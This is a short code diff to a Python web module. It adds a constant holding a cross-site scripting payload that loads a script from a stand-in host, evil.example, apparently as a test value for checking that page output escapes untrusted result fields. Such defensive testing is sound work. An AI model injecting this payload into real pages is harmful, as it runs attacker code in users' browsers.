@@ -12,6 +12,8 @@ from urllib.parse import unquote, urlsplit
 
 from starlette.types import ASGIApp
 
+HOSTILE = '"><script src=//evil.example/x.js></script>'
+"""A title, version and host of one of the results: it must not leave its place on a page."""
 VOID = {"meta", "br", "hr", "img", "link", "input", "wbr"}
 
 
